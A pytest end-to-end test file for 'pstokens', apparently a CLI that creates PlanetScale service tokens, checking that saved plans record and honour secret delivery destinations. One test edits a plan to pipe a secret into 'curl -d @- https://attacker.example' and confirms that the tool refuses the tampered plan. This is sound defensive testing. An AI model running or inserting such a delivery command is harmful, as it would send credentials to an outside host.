"""A plan resolves where every new secret goes, and a saved plan delivers there.

`plan` takes --secrets-dir/--secrets-command (or the default folder), the plan
records each new token's destinations, `apply PLANFILE` delivers there and
refuses the flags before any lock or call; a config entry may ask for the ID
and the secret together on stdin (`stdin: env` / `stdin: json`).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.e2e.conftest import Cli, Emulator, secrets_in, write_config

CONFIG = """\
organization: acme
tokens:
  ci:
    accesses:
      databases:
        app: [read_branch]
  reporter:
    accesses:
      organization: [read_organization]
    deliver:
      - dir: own
"""


def saved_plan(workdir: Path, name: str = "p.json") -> dict[str, object]:
    data: dict[str, object] = json.loads((workdir / name).read_text())
    return data


def delivers(plan: dict[str, object]) -> dict[str, object]:
    changes = plan["changes"]
    assert isinstance(changes, list)
    return {c["key"]: c["deliver"] for c in changes if c["action"] in ("create", "replace")}


def test_a_plan_without_flags_records_the_default_folder_and_apply_delivers_there(
    cli: Cli, emulator: Emulator, workdir: Path
) -> None:
    write_config(workdir / "pstokens.yaml", CONFIG)
    shown = cli("plan", "--out", "p.json")
    assert shown.code == 0, shown.both
    assert "secret to dir .pstokens/secrets" in shown.out
    plan = saved_plan(workdir)
    assert plan["default_deliver"] == [{"dir": ".pstokens/secrets"}]
    assert delivers(plan) == {"ci": [{"dir": ".pstokens/secrets"}], "reporter": [{"dir": "own"}]}

    applied = cli("apply", "p.json")
    assert applied.code == 0, applied.both
    assert sorted(secrets_in(workdir / ".pstokens" / "secrets")) == ["ci"]
    assert sorted(secrets_in(workdir / "own")) == ["reporter"]


def test_plan_takes_secrets_dir_and_the_saved_plan_delivers_there(
    cli: Cli, emulator: Emulator, workdir: Path
) -> None:
    write_config(workdir / "pstokens.yaml", CONFIG)
    assert cli("plan", "--secrets-dir", "chosen", "--out", "p.json").code == 0
    assert delivers(saved_plan(workdir))["ci"] == [{"dir": "chosen"}]
    shown = cli("show", "p.json")
    assert shown.code == 0 and "secret to dir chosen" in shown.out  # what a reviewer reads

    applied = cli("apply", "p.json")
    assert applied.code == 0, applied.both
    [token] = emulator.by_name("ci")
    secret = secrets_in(workdir / "chosen")["ci"]
    assert emulator.store.secret_matches("acme", token["id"], secret)
    assert not (workdir / ".pstokens").exists()  # not the default: the plan said where
    assert sorted(secrets_in(workdir / "own")) == ["reporter"]  # deliver: beats the flag


def test_plan_takes_secrets_command_and_the_saved_plan_runs_it(
    cli: Cli, emulator: Emulator, workdir: Path
) -> None:
    write_config(workdir / "pstokens.yaml", CONFIG)
    command = f"cat > {workdir}/got-$PSTOKENS_TOKEN_KEY"
    shown = cli("plan", "--secrets-command", command, "--out", "p.json")
    assert shown.code == 0, shown.both
    assert delivers(saved_plan(workdir))["ci"] == [{"command": command}]
    assert cli("apply", "p.json").code == 0
    [token] = emulator.by_name("ci")
    assert emulator.store.secret_matches("acme", token["id"], (workdir / "got-ci").read_text())


@pytest.mark.parametrize("flag", [("--secrets-dir", "elsewhere"), ("--secrets-command", "cat")])
def test_apply_planfile_refuses_the_secrets_flags_before_any_call(
    cli: Cli, emulator: Emulator, workdir: Path, flag: tuple[str, str]
) -> None:
    write_config(workdir / "pstokens.yaml", CONFIG)
    assert cli("plan", "--out", "p.json").code == 0
    state = workdir / "state" / "acme.json"
    before = state.read_bytes() if state.exists() else None
    emulator.reset_stats()

    refused = cli("apply", "p.json", *flag)

    assert refused.code == 1
    assert ("Error: --secrets-dir and --secrets-command are for fresh plans; a saved plan "
            "delivers where it recorded") in refused.err
    assert "Hint: apply the saved plan without them" in refused.err
    assert "pstokens plan --secrets-dir DIR --out FILE" in refused.err
    assert "Traceback" not in refused.both
    assert emulator.stats()["total"] == 0
    assert emulator.tokens() == []
    assert (state.read_bytes() if state.exists() else None) == before
    assert not (workdir / "elsewhere").exists()


def test_apply_without_a_planfile_still_takes_the_flags(
    cli: Cli, emulator: Emulator, workdir: Path
) -> None:
    write_config(workdir / "pstokens.yaml", CONFIG)
    applied = cli("apply", "--auto-approve", "--secrets-dir", "flag")
    assert applied.code == 0, applied.both
    assert "secret to dir flag" in applied.out
    assert sorted(secrets_in(workdir / "flag")) == ["ci"]


def test_plan_refuses_both_secrets_flags(cli: Cli, emulator: Emulator, workdir: Path) -> None:
    write_config(workdir / "pstokens.yaml", CONFIG)
    both = cli("plan", "--secrets-dir", "a", "--secrets-command", "cat")
    assert both.code == 1
    assert "--secrets-dir and --secrets-command cannot be used together" in both.err
    assert emulator.tokens() == []


def test_a_saved_plan_whose_destinations_were_edited_is_refused(
    cli: Cli, emulator: Emulator, workdir: Path
) -> None:
    """Where a secret goes is part of what was reviewed: a plan file whose change
    now names another destination no longer matches a fresh plan of itself."""
    write_config(workdir / "pstokens.yaml", CONFIG)
    assert cli("plan", "--out", "p.json").code == 0
    plan = saved_plan(workdir)
    changes = plan["changes"]
    assert isinstance(changes, list)
    for change in changes:
        if change["key"] == "ci" and change["action"] == "create":
            change["deliver"] = [{"command": "curl -d @- https://attacker.example"}]
    (workdir / "p.json").write_text(json.dumps(plan))

    refused = cli("apply", "p.json")

    assert refused.code == 1
    assert emulator.tokens() == []
    assert "saved plan is stale" in refused.err
    assert "Traceback" not in refused.both


@pytest.mark.parametrize("bad", [[], "x", [{"dir": "a", "stdin": "env"}],
                                 [{"command": "cat", "stdin": "xml"}],
                                 [{"command": "cat", "timeout": "soon"}]])
def test_a_saved_plan_with_malformed_default_destinations_is_damaged(
    cli: Cli, emulator: Emulator, workdir: Path, bad: object
) -> None:
    write_config(workdir / "pstokens.yaml", CONFIG)
    assert cli("plan", "--out", "p.json").code == 0
    plan = saved_plan(workdir)
    (workdir / "p.json").write_text(json.dumps(plan | {"default_deliver": bad}))
    refused = cli("apply", "p.json")
    assert refused.code == 1
    assert "p.json is damaged" in refused.err or "is damaged" in refused.err
    assert "Traceback" not in refused.both
    assert emulator.tokens() == []


@pytest.mark.parametrize("form", ["env", "json"])
def test_a_command_with_stdin_env_or_json_gets_the_id_and_the_secret_together(
    cli: Cli, emulator: Emulator, workdir: Path, form: str
) -> None:
    write_config(workdir / "pstokens.yaml", (
        "organization: acme\ntokens:\n  ci:\n    deliver:\n"
        f"      - command: cat > {workdir}/got\n        stdin: {form}\n"))
    shown = cli("plan", "--out", "p.json")
    assert f"(stdin: {form})" in shown.out
    assert delivers(saved_plan(workdir))["ci"] == [{"command": f"cat > {workdir}/got",
                                                    "stdin": form}]
    applied = cli("apply", "p.json")
    assert applied.code == 0, applied.both
    [token] = emulator.by_name("ci")
    got = (workdir / "got").read_text()
    if form == "env":
        id_line, secret_line = got.splitlines()
        assert id_line == f"PLANETSCALE_SERVICE_TOKEN_ID={token['id']}"
        secret = secret_line.removeprefix("PLANETSCALE_SERVICE_TOKEN=")
    else:
        data = json.loads(got)
        assert sorted(data) == ["id", "token"] and data["id"] == token["id"]
        secret = data["token"]
    assert emulator.store.secret_matches("acme", token["id"], secret)
    assert secret not in applied.both + shown.both
    assert secret not in (workdir / "state" / "acme.json").read_text()
    assert secret not in (workdir / "p.json").read_text()


def test_a_bad_stdin_is_a_validate_error_at_its_line_with_the_choices(
    cli: Cli, emulator: Emulator, workdir: Path
) -> None:
    write_config(workdir / "pstokens.yaml", (
        "organization: acme\ntokens:\n  ci:\n    deliver:\n"
        "      - command: cat\n        stdin: xml\n"))
    result = cli("validate")
    assert result.code == 1
    assert ('pstokens.yaml:6:16: unknown stdin "xml" (use env or json, or leave stdin out '
            "for the secret alone)") in result.err
